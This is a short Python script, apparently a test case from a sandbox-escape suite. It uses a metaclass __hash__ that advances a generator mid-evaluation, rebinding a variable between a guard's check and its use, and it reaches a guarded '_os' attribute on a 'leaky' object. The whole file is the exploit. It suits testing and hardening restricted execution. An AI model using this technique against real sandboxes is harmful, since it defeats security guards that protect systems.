# unguarded: it attacks the guards themselves
# needs: leaky
# A generator's variable is rebound by the metaclass's hash, between the check in a generator expression and its use.
from leaky import Holder
class Good:
    _os = 1
def outer():
    n = Evil()
    yield (n._os for _ in [1])
    n = Holder()
    yield
class Liar(type):
    def __hash__(cls):
        next(gen)
        return 1
class Evil(metaclass=Liar):
    _os = 1
gen = outer()
value = next(next(gen))
if value != 1:
    print("PWNED", value)
